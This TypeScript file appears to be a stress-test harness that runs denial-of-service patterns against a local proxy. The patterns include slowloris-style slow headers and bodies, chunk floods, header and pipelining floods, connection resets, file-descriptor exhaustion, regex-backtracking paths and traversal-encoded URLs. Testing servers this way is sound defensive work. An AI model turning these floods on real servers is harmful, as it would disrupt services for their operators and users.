/** Attacks, at rates that leave the attacked proxy enough CPU time to respond. */
import type { Socket } from 'node:net';
import type { Attack } from './attack.js';

export interface AttackKind {
  /** Rates and numbers, for the report. */
  readonly about: string;
  /** Directives of the main context that the attack needs. */
  readonly main?: string;
  /** Well-behaved clients open no new connections, because the attack makes that impossible. */
  readonly keptOnly?: boolean;
  run(attack: Attack): Promise<unknown>;
}

const HOST = 'Host: localhost\r\n';
const FILES = 'worker_rlimit_nofile 20000;';

function get(path: string, fields = ''): string {
  return `GET ${path} HTTP/1.1\r\n${HOST}${fields}\r\n`;
}

/** Starts with `first`, then sends `piece` each time. */
function dripping(attack: Attack, first: (n: number) => string, piece: string): (socket: Socket) => void {
  const begun = new WeakSet<Socket>();
  let n = 0;
  return (socket) => {
    if (begun.has(socket)) attack.send(socket, piece);
    else {
      begun.add(socket);
      attack.send(socket, first(n++));
    }
  };
}

/** `count` connections, each reopened when it is closed. */
function steady(attack: Attack, count: number): { next(n: number): Socket } {
  const sockets: Socket[] = [];
  return {
    next(n) {
      let socket = sockets[n % count];
      if (socket === undefined || !socket.writable) socket = sockets[n % count] = attack.open();
      return socket;
    },
  };
}

const CHUNKS = '1\r\nx\r\n'.repeat(1000);

async function oneByteChunks(attack: Attack, path: string): Promise<void> {
  const sent = new WeakMap<Socket, number>();
  const { next } = steady(attack, 20);
  // 1,000 chunks each time, 300,000 bytes of body per request.
  await attack.pace(300, (n) => {
    const socket = next(n);
    if (socket.writableLength > 1 << 16) return;
    const before = sent.get(socket) ?? 0;
    if (before === 0) attack.send(socket, `POST ${path} HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n`);
    attack.send(socket, CHUNKS);
    if (before < 300) sent.set(socket, before + 1);
    else {
      attack.send(socket, '0\r\n\r\n');
      sent.set(socket, 0);
    }
  });
}

/** Sends one request at a time, `perSecond` in all, on `count` connections. */
async function requests(attack: Attack, count: number, perSecond: number, text: (n: number) => string): Promise<void> {
  const { next } = steady(attack, count);
  await attack.pace(perSecond, (n) => {
    const socket = next(n);
    if (socket.writableLength < 1 << 17) attack.send(socket, text(n));
  });
}

const MANY_FIELDS = Array.from({ length: 900 }, (_, i) => `a${i}: b\r\n`).join('');
const LARGE_FIELDS = Array.from({ length: 3 }, (_, i) => `X-Large-${i}: ${'v'.repeat(8000)}\r\n`).join('');
const HEADS = [
  get('/attacked/', MANY_FIELDS),
  get('/attacked/', LARGE_FIELDS),
  // Each of these is refused.
  get('/attacked/', `X-Large: ${'v'.repeat(100_000)}\r\n`),
  get('/attacked/', 'a: b\r\n'.repeat(8000)),
];

const PATHS = [
  `/${'../'.repeat(1300)}`,
  `/attacked/${'a/../'.repeat(1600)}`,
  `/${'./'.repeat(4000)}`,
  `/${'/'.repeat(8000)}`,
  `/${'%2e%2e%2f'.repeat(880)}`,
  `/attacked/${'%41'.repeat(2600)}`,
  `/${'%'.repeat(4000)}`,
  `/attacked/${'a/'.repeat(4000)}`,
  `/attacked/?${'&a=%00'.repeat(1300)}`,
];

const EXPRESSIONS = [
  `/repeated/${'a'.repeat(40)}!`,
  `/repeated/${'a'.repeat(3000)}!`,
  `/php/${'/'.repeat(3000)}`,
  `/php/${'a/'.repeat(1500)}.ph`,
  `/words/${'a'.repeat(40)}!`,
  `/map/${'a'.repeat(40)}!`,
];

function resetStates(attack: Attack): ((socket: Socket) => void)[] {
  const after = (ms: number, text: string) => (socket: Socket) => {
    if (text !== '') attack.send(socket, text);
    setTimeout(() => socket.resetAndDestroy(), ms);
  };
  const body = `POST /attacked/ HTTP/1.1\r\n${HOST}Content-Length: 100000\r\n\r\n${'x'.repeat(5000)}`;
  return [
    after(0, ''),
    after(5, ''),
    after(5, 'GET /attacked/ HT'),
    after(5, `GET /attacked/ HTTP/1.1\r\n${HOST}X-`),
    after(5, body),
    after(5, body.replace('/attacked/', '/streamed/')),
    after(0, get('/attacked/')),
    after(5, get('/attacked/')),
    after(50, get('/attacked/')),
    after(5, get('/attacked/bytes/1000000')),
    after(20, get('/attacked/bytes/1000000')),
    after(20, get('/unbuffered/bytes/1000000')),
    after(20, get('/unbuffered/drip/100000')),
    after(5, get('/attacked/').repeat(50)),
  ];
}

export const ATTACKS: Readonly<Record<string, AttackKind>> = {
  'slow-heads': {
    about: '2,000 connections, a byte of a head each second on each',
    run: (attack) =>
      attack.crowd(
        2000,
        1500,
        2000,
        dripping(attack, () => `GET /attacked/ HTTP/1.1\r\n${HOST}X-Slow: `, 'x'),
      ),
  },
  'slow-bodies': {
    about: '2,000 connections, a byte of a body each second on each, half of them streamed',
    run: (attack) => {
      const head = (n: number): string =>
        `POST ${n % 2 === 0 ? '/attacked/' : '/streamed/'} HTTP/1.1\r\n${HOST}Content-Length: 100000\r\n\r\n`;
      return attack.crowd(2000, 1500, 2000, dripping(attack, head, 'x'));
    },
  },
  'chunks-up': {
    about: 'bodies in one-byte chunks on 20 connections, buffered, 300,000 chunks/s',
    run: (attack) => oneByteChunks(attack, '/attacked/'),
  },
  'chunks-up-streamed': {
    about: 'bodies in one-byte chunks on 20 connections, streamed, 300,000 chunks/s',
    run: (attack) => oneByteChunks(attack, '/streamed/'),
  },
  'chunks-down': {
    about: '20 responses in one-byte chunks, 500,000 chunks/s, half of them unbuffered',
    run: async (attack) => {
      for (let n = 0; n < 20; n++) {
        attack.open().write(get(`${n % 2 === 0 ? '/attacked' : '/unbuffered'}/drip/1000000`));
      }
      await attack.rest();
    },
  },
  'slow-readers': {
    about: '200 clients of 10 MiB, 40 more each second, each reads 20 KiB/s',
    run: async (attack) => {
      const sockets: Socket[] = [];
      await Promise.all([
        attack.pace(40, () => {
          if (sockets.length >= 200) return;
          const socket = attack.open((opened) => attack.send(opened, get('/attacked/bytes/10485760')));
          socket.removeAllListeners('data');
          socket.pause();
          sockets.push(socket);
        }),
        attack.pace(60, (n) => {
          const chunk = sockets[n % Math.max(1, sockets.length)]?.read() as Buffer | null | undefined;
          attack.bytesReceived += chunk?.length ?? 0;
        }),
      ]);
    },
  },
  'header-floods': {
    about: 'heads of 900 fields, of 24 KiB, of 100 kB and of 8,000 fields, 200/s on 20 connections',
    run: (attack) => requests(attack, 20, 200, (n) => HEADS[n % HEADS.length] ?? ''),
  },
  pipelining: {
    about: '10,000 pipelined requests in one write each second, one half proxied',
    run: (attack) => {
      const bursts = ['/attacked/', '/here/'].map((path) => get(path).repeat(5000));
      return attack.pace(1, () => {
        for (const burst of bursts) attack.open((socket) => attack.send(socket, burst));
      });
    },
  },
  'long-urls': {
    about: 'URLs of 8,000 bytes, 500/s on 20 connections',
    run: (attack) =>
      requests(attack, 20, 500, (n) => get(`/attacked/${String.fromCharCode(97 + (n % 26)).repeat(8000)}`)),
  },
  'idle-connections': {
    about: '10,000 idle connections, 2,500 more each second, one half after a request',
    main: FILES,
    run: async (attack) => {
      const sockets: Socket[] = [];
      await attack.pace(2500, (n) => {
        if (sockets.length >= 10_000) return;
        const one = n % 2 === 0;
        sockets.push(attack.open(one ? undefined : (socket) => attack.send(socket, get('/here/'))));
      });
    },
  },
  resets: {
    about: 'connections that are reset in 14 states, 500/s',
    run: (attack) => {
      const states = resetStates(attack);
      return attack.pace(500, (n) => attack.open(states[n % states.length]));
    },
  },
  emfile: {
    about: '1,000 connections to a worker with 256 descriptors, and 200 new ones/s',
    main: 'worker_rlimit_nofile 256;',
    keptOnly: true,
    run: async (attack) => {
      const sockets: Socket[] = [];
      await attack.pace(500, (n) => {
        if (sockets.length >= 1000) sockets.shift()?.destroy();
        sockets.push(attack.open((socket) => attack.send(socket, n % 2 === 0 ? get('/attacked/') : 'GET /')));
      });
    },
  },
  expressions: {
    about: 'paths against expressions with nested quantifiers, 10/s',
    run: (attack) => requests(attack, 10, 10, (n) => get(EXPRESSIONS[n % EXPRESSIONS.length] ?? '')),
  },
  paths: {
    about: 'paths of 8 kB that have to be normalised, 500/s on 20 connections',
    run: (attack) => requests(attack, 20, 500, (n) => get(PATHS[n % PATHS.length] ?? '')),
  },
};
